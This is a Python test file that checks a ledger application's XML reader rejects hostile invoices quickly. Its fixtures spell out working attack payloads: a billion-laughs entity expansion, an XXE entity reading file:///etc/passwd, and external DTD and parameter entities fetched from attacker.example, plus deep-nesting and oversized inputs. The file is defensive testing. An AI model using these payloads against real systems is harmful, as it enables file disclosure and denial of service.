"""Hostile XML is refused quickly and safely, whatever it pretends to be."""

from __future__ import annotations

import pytest

from ledger.documents import read_document
from ledger.documents.xmlsafe import MAX_XML_BYTES, parse_untrusted_xml
from ledger.errors import DocumentFormatError, InvalidInput
from tests.cpu import cpu_seconds

UBL_ROOT = b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">'

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
        for i in range(1, 10)
    )
    + b"]>\n"
    + UBL_ROOT
    + b"<ID>&lol9;</ID></Invoice>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + UBL_ROOT
    + b"<ID>&xxe;</ID></Invoice>"
)
EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">\n'
    + UBL_ROOT
    + b"<ID>1</ID></Invoice>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://attacker.example/x">'
    b" %p;]>\n" + UBL_ROOT + b"<ID>1</ID></Invoice>"
)
DEEP = UBL_ROOT + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</Invoice>"
MODERATELY_DEEP = UBL_ROOT + b"<a>" * 100 + b"</a>" * 100 + b"</Invoice>"
HUGE = UBL_ROOT + b"<Note>" + b"x" * (MAX_XML_BYTES + 1) + b"</Note></Invoice>"
# the DOCTYPE hidden from a byte scan by UTF-16
UTF16_DOCTYPE = (
    '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE Invoice [<!ENTITY x "y">]>\n'
    '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&x;</ID></Invoice>'
).encode("utf-16")


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        DEEP,
        MODERATELY_DEEP,
        HUGE,
        UTF16_DOCTYPE,
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "external-dtd",
        "parameter-entity",
        "deep-100k",
        "deep-100",
        "huge",
        "utf16-doctype",
    ],
)
def test_hostile_xml_is_refused_quickly(data: bytes) -> None:
    with cpu_seconds() as spent, pytest.raises(InvalidInput) as info:  # a DocumentFormatError
        read_document(data)
    assert spent.seconds < 2.0, spent
    assert "passwd" not in str(info.value)
    assert "root:" not in str(info.value)


def test_entities_are_refused_as_a_format_error() -> None:
    for data in (BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY):
        with pytest.raises(DocumentFormatError, match="DOCTYPE"):
            read_document(data)


def test_size_and_depth_limits_name_their_rule() -> None:
    with pytest.raises(InvalidInput, match="larger than"):
        parse_untrusted_xml(HUGE)
    # the same rule and words whether the gateway counts the levels (100) or libxml2 stops
    # first (past 256: 5,000 and 100,000 levels)
    for deep in (MODERATELY_DEEP, UBL_ROOT + b"<a>" * 5000 + b"</a>" * 5000 + b"</Invoice>", DEEP):
        with pytest.raises(InvalidInput, match="XML nested deeper than 64 levels is refused"):
            parse_untrusted_xml(deep)


def test_a_doctype_free_invoice_still_parses() -> None:
    root = parse_untrusted_xml(UBL_ROOT + b"<ID>1</ID></Invoice>")
    assert root.tag.endswith("Invoice")


def test_the_depth_and_entity_checks_hold_at_their_bounds() -> None:
    """The checks libxml2 makes for us (no Python object per element: a walk in Python made
    an invoice of 200,000 elements take 10 s inside a long-lived process): 64 levels are
    read, 65 refused; an entity reference node in a tree is refused."""
    from lxml import etree

    from ledger.documents.xmlsafe import MAX_XML_DEPTH, parse_untrusted_xml

    ok = b"<a>" * MAX_XML_DEPTH + b"</a>" * MAX_XML_DEPTH
    assert parse_untrusted_xml(ok).tag == "a"
    deep = b"<a>" * (MAX_XML_DEPTH + 1) + b"</a>" * (MAX_XML_DEPTH + 1)
    with pytest.raises(InvalidInput, match="nested deeper than 64"):
        parse_untrusted_xml(deep)
    wide = b"<a>" + b"<b><c/></b>" * 50_000 + b"</a>"
    assert len(parse_untrusted_xml(wide)) == 50_000
    from ledger.documents import xmlsafe

    tree = etree.fromstring(b"<a><b/></a>")
    tree[0].append(etree.Entity("x"))
    with pytest.raises(DocumentFormatError, match="entity references are not allowed"):
        xmlsafe._check_depth(tree, "xml")
